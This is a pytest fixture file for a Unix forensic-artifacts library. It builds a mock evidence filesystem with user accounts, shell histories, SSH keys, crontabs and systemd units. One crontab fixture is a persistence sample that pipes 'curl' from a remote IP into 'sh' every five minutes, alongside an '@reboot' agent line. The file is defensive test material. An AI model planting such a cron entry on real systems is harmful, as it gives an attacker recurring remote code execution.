import os
from pathlib import Path
from typing import Dict

import pytest

from unix_artifacts.chroot import ChRootFileSystem
from unix_artifacts.vfs import StdVirtualFS

PASSWD = """root:x:0:0:root:/root:/bin/bash
syslog:x:104:110::/home/syslog:/usr/sbin/nologin
forensicrs:x:1000:1000:Forensic RS,,,:/home/forensicrs:/bin/bash
gwanza:x:1001:1001::/home/gwanza:/bin/zsh
"""

GROUP = """root:x:0:
daemon:x:1:
bin:x:2:
sys:x:3:
adm:x:4:syslog,forensicrs
sudo:x:27:forensicrs
forensicrs:x:1000:
gwanza:x:1001:
"""

BASH_BASHRC = """# System-wide .bashrc file for interactive bash(1) shells.
[ -z "$PS1" ] && return
export HISTTIMEFORMAT="%d/%m/%y %T "
"""

FORENSICRS_BASHRC = """# ~/.bashrc
alias rm='rm -i'
alias ls='ls --color=auto'
ALERT=${BWhite}${On_Red} # Bold White on red background
export HISTTIMEFORMAT="$(echo -e ${BCyan})[%d/%m %H:%M:%S]$(echo -e ${NC}) "
if [ -f ~/.bash_aliases ]; then
    . ~/.bash_aliases
fi
"""

FORENSICRS_BASH_HISTORY = """#1674029826
vim ~/.bash_history
ls -la
"""

ZSH_ZSHRC = """export PATH=/usr/local/bin:${PATH}
"""

GWANZA_ZSHRC = """alias ll='ls -la'
widget=$2
export PATH=${PATH}:${HOME}/bin
"""

GWANZA_ZSH_HISTORY = """: 1674110226:0;vim ~/.zsh_history
: 1674110300:0;ls
"""

AUTHORIZED_KEYS = """# managed by ansible
ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKx forensicrs@workstation
from="10.0.0.0/8",no-pty ssh-rsa AAAAB3NzaC1yc2EAAAADAQAB backup@vault
"""

KNOWN_HOSTS = """github.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMq
@cert-authority *.corp.example ssh-rsa AAAAB3NzaC1yc2EAAAADAQAB ca key
"""

CRONTAB = """SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin

# m h dom mon dow user\tcommand
17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly
"""

CRON_D_BACKUP = """30 2 * * * forensicrs /usr/local/bin/backup.sh --full
"""

FORENSICRS_SPOOL = """@reboot /home/forensicrs/.local/bin/agent
*/5 * * * * curl -s http://203.0.113.7/p | sh
"""

TORTUGA_SERVICE = """[Unit]
Description=Tortuga

[Service]
ExecStart=/usr/bin/tortuga
Restart=always

[Install]
WantedBy=multi-user.target
"""

SSH_SERVICE = """[Unit]
Description=OpenBSD Secure Shell server

[Service]
ExecStart=/usr/sbin/sshd -D $SSHD_OPTS
"""

GETTY_SERVICE = """[Unit]
Description=Getty on tty1
"""

SYNCTHING_SERVICE = """[Unit]
Description=Syncthing

[Service]
ExecStart=/usr/bin/syncthing serve --no-browser
"""

EVIDENCE_FILES: Dict[str, str] = {
    "etc/passwd": PASSWD,
    "etc/group": GROUP,
    "etc/bash.bashrc": BASH_BASHRC,
    "etc/zsh/zshrc": ZSH_ZSHRC,
    "etc/crontab": CRONTAB,
    "etc/cron.d/backup": CRON_D_BACKUP,
    "etc/init.d/apache2": "hola",
    "etc/systemd/system/tortuga.service": TORTUGA_SERVICE,
    "etc/systemd/system/notes.txt": "not a unit",
    "lib/systemd/system/ssh.service": SSH_SERVICE,
    "lib/systemd/system/getty.target.wants/getty@tty1.service": GETTY_SERVICE,
    "home/forensicrs/.bashrc": FORENSICRS_BASHRC,
    "home/forensicrs/.bash_history": FORENSICRS_BASH_HISTORY,
    "home/forensicrs/.ssh/authorized_keys": AUTHORIZED_KEYS,
    "home/forensicrs/.ssh/known_hosts": KNOWN_HOSTS,
    "home/gwanza/.zshrc": GWANZA_ZSHRC,
    "home/gwanza/.zsh_history": GWANZA_ZSH_HISTORY,
    "home/gwanza/.config/systemd/user/syncthing.service": SYNCTHING_SERVICE,
    "home/syslog/.bash_history": "whoami\n",
    "var/spool/cron/crontabs/forensicrs": FORENSICRS_SPOOL,
}


def write_tree(root: Path, files: Dict[str, str]) -> Path:
    for rel, content in files.items():
        target = root / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(content, encoding="utf-8")
    return root


@pytest.fixture
def evidence_root(tmp_path: Path) -> Path:
    root = write_tree(tmp_path / "evidence", EVIDENCE_FILES)
    wants = root / "etc/systemd/system/multi-user.target.wants"
    wants.mkdir(parents=True)
    os.symlink("/etc/systemd/system/tortuga.service", wants / "tortuga.service")
    return root


@pytest.fixture
def vfs(evidence_root: Path) -> ChRootFileSystem:
    return ChRootFileSystem(evidence_root, StdVirtualFS())
